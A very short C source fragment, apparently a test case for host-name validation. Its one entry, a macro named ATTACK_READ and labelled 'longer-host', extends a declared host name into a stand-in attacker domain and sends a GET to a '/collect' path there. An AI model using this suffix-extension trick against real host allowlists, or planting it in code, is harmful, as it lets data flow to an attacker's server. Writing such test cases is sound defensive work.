/* Makes another host of the declared one by going on with its name. */
#include "declared.h"

ATTACK_READ("longer-host", .get = "GET .evil.example.net/collect")
